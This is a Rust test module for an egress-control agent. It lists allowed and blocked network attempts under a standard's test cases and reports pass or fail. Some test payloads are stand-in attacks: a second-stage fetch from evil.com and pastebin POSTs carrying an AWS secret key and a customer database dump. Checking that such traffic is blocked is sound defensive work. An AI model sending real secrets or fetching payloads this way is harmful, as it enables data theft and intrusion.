//! The connections and sends the workload tries, by MCP-NET-02 case, and how each one is
//! judged and reported.

use std::fmt::Write as _;

use anyhow::{Context as _, Result, bail};
use egress_tests::probe::{ProbeResult, errno_name};
use egress_tests::process::RunOutput;
use egress_tests::server::{Listener, contains};
use egress_tests::testbed::Testbed;

use crate::ARRIVAL_WAIT;
use crate::output::{LogObject, json_text, log_objects};
use crate::world::SERVICES;

#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Expect {
    Allowed,
    Blocked,
    /// Port 53: the send succeeds, but the kernel hands the datagram to the agent's DNS
    /// proxy, so nothing reaches the destination.
    Redirected,
}

/// One thing the workload tries: a probe op against one service.
pub struct Attempt {
    pub case: u8,
    /// Index into [`SERVICES`].
    pub service: usize,
    /// Probe op verb and socket kind, e.g. `send tcp4`.
    pub how: &'static str,
    /// What is sent; tagged per run so each run's bytes can be told apart.
    pub body: &'static str,
    pub expect: Expect,
}

pub const ATTEMPTS: [Attempt; 13] = [
    Attempt {
        case: 1,
        service: 0,
        how: "send tcp4",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com",
        expect: Expect::Allowed,
    },
    Attempt {
        case: 1,
        service: 1,
        how: "send tcp6",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com",
        expect: Expect::Allowed,
    },
    Attempt {
        case: 1,
        service: 4,
        how: "send tcp4",
        body: "SELECT 1;",
        expect: Expect::Allowed,
    },
    Attempt {
        case: 2,
        service: 5,
        how: "send tcp4",
        body: "GET /stage2.bin HTTP/1.1 Host: evil.com",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 2,
        // An AF_INET6 socket to ::ffff:198.18.0.66: the same host through the other hook.
        service: 5,
        how: "send tcp6",
        body: "GET /stage2.bin HTTP/1.1 Host: evil.com (IPv4-mapped)",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 2,
        service: 6,
        how: "send tcp4",
        body: "GET / HTTP/1.1 Host: 10.0.0.5",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 3,
        service: 7,
        how: "sendto udp4",
        body: "not a DNS message, to UDP port 53",
        expect: Expect::Redirected,
    },
    Attempt {
        case: 3,
        service: 7,
        how: "udpconnect-send udp4",
        body: "not a DNS message, to UDP port 53 (connected socket)",
        expect: Expect::Redirected,
    },
    Attempt {
        case: 3,
        service: 11,
        how: "send tcp4",
        body: "DNS over TLS ClientHello",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 5,
        service: 8,
        how: "send tcp4",
        body: "POST /api/api_post.php HTTP/1.1 Host: pastebin.com api_paste_code=AWS_SECRET_ACCESS_KEY%3D...",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 5,
        service: 9,
        how: "send tcp4",
        body: "POST /api/api_post.php HTTP/1.1 Host: pastebin.com api_paste_code=customer-db-dump",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 6,
        service: 2,
        how: "send tcp4",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com (plain HTTP)",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 6,
        service: 3,
        how: "send tcp6",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com (plain HTTP, IPv6)",
        expect: Expect::Blocked,
    },
];

/// MCP-NET-02's dynamic test cases, as the standard words them.
pub const CASES: [(u8, &str); 6] = [
    (
        1,
        "Allowed connection: connect to api.company.com:443 -> success",
    ),
    (
        2,
        "Blocked connection: connect to evil.com:443 -> refused (and a denied range)",
    ),
    (
        3,
        "DNS filtering: query an unauthorized DNS server -> blocked",
    ),
    (
        4,
        "Rate limiting: 101 connections in 60 seconds -> last one blocked",
    ),
    (5, "Data exfiltration: POST to pastebin.com -> blocked"),
    (
        6,
        "Protocol enforcement: HTTP to an HTTPS-only host -> blocked",
    ),
];

/// Runs every attempt without the agent: all must connect and deliver, or the demo world is
/// broken and a block under the agent would prove nothing.
pub fn control_run(tb: &Testbed, listeners: &[Listener]) -> Result<()> {
    let ops: Vec<String> = ATTEMPTS.iter().map(|a| op(a, "control")).collect();
    let refs: Vec<&str> = ops.iter().map(String::as_str).collect();
    let out = tb.run_probe(&refs).context("control run of the probe")?;
    let mut problems = Vec::new();
    for (attempt, op) in ATTEMPTS.iter().zip(&ops) {
        let s = &SERVICES[attempt.service];
        match out.result(op) {
            Some(r) if r.ok => {}
            Some(r) => problems.push(format!(
                "{} {}: {}",
                s.name,
                s.addr,
                r.error.as_deref().unwrap_or("failed")
            )),
            None => problems.push(format!("{} {}: the op did not run", s.name, s.addr)),
        }
        let got = listeners[attempt.service]
            .wait_for(payload(attempt, "control").as_bytes(), ARRIVAL_WAIT);
        if !contains(&got, payload(attempt, "control").as_bytes()) {
            problems.push(format!("{} {}: nothing arrived", s.name, s.addr));
        }
    }
    if !problems.is_empty() {
        bail!(
            "control run without the agent failed, so the demo world is broken: {}\n{}",
            problems.join("; "),
            out.describe()
        );
    }
    println!(
        "\nControl run WITHOUT the agent: all {} attempts connected and their bytes arrived \
         (every destination below is reachable; a block is the agent's doing).",
        ATTEMPTS.len()
    );
    Ok(())
}

pub fn payload(attempt: &Attempt, tag: &str) -> String {
    format!("[{tag}] {}", attempt.body)
}

pub fn op(attempt: &Attempt, tag: &str) -> String {
    let s = &SERVICES[attempt.service];
    format!(
        "{} {} {} {}",
        attempt.how,
        s.addr.ip(),
        s.addr.port(),
        payload(attempt, tag)
    )
}

/// Prints one line for an attempt and returns whether it behaved as expected.
pub fn report_attempt(
    attempt: &Attempt,
    result: Option<&ProbeResult>,
    new_bytes: &[u8],
    payload: &str,
) -> bool {
    let s = &SERVICES[attempt.service];
    let syscall = match result {
        None => "did not run".to_owned(),
        Some(r) if r.ok => "ok".to_owned(),
        Some(r) => r
            .errno
            .map_or_else(|| r.error.clone().unwrap_or_default(), errno_name),
    };
    let arrived = contains(new_bytes, payload.as_bytes());
    let (passed, expected) = match attempt.expect {
        Expect::Allowed => (result.is_some_and(|r| r.ok) && arrived, "allowed"),
        Expect::Blocked => (
            result.is_some_and(|r| r.failed_with(libc::EPERM)) && new_bytes.is_empty(),
            "blocked (EPERM)",
        ),
        Expect::Redirected => (
            result.is_some_and(|r| r.ok) && new_bytes.is_empty(),
            "sent, never arrives",
        ),
    };
    let bytes = if new_bytes.is_empty() {
        "nothing arrived".to_owned()
    } else if arrived {
        format!("{} bytes arrived", new_bytes.len())
    } else {
        format!("{} unexpected bytes arrived", new_bytes.len())
    };
    println!(
        "  {}  {:<38} {:<22} expect {expected:<19} syscall: {syscall:<7} listener: {bytes}",
        if passed { "PASS" } else { "FAIL" },
        s.dest(),
        attempt.how,
    );
    passed
}

/// The agent hook that judges a probe op (`send tcp6`, `sendto udp4`, ...).
fn hook_of(how: &str) -> &'static str {
    match (how.starts_with("sendto "), how.ends_with('6')) {
        (false, false) => "connect4",
        (false, true) => "connect6",
        (true, false) => "sendmsg4",
        (true, true) => "sendmsg6",
    }
}

/// Under a blocked attempt: the agent's `egress_blocked` line for it (same destination,
/// port and hook), with `dst.host` when the address came from a policy host name.
/// Informational, like [`crate::output::print_blocked_in_log`].
pub fn print_logged_event(run: &RunOutput, attempt: &Attempt) {
    let addr = SERVICES[attempt.service].addr;
    let (ip, port, hook) = (
        addr.ip().to_string(),
        addr.port().to_string(),
        hook_of(attempt.how),
    );
    let field = |f: &LogObject, key: &str| f.get(key).map(json_text);
    let event = log_objects(run).find(|f| {
        field(f, "event").as_deref() == Some("egress_blocked")
            && field(f, "dst.ip").as_deref() == Some(ip.as_str())
            && field(f, "dst.port").as_deref() == Some(port.as_str())
            && field(f, "hook").as_deref() == Some(hook)
    });
    let Some(event) = event else {
        println!("        logged: no egress_blocked line for {addr} ({hook})");
        return;
    };
    let mut line = String::from("        logged:");
    for key in ["reason", "hook", "dst.host", "rule.target"] {
        if let Some(value) = field(&event, key) {
            let _ = write!(line, " {key}={value}");
        }
    }
    if !event.contains_key("dst.host") {
        line.push_str(" (no dst.host: not an address of a policy host)");
    }
    println!("{line}");
}
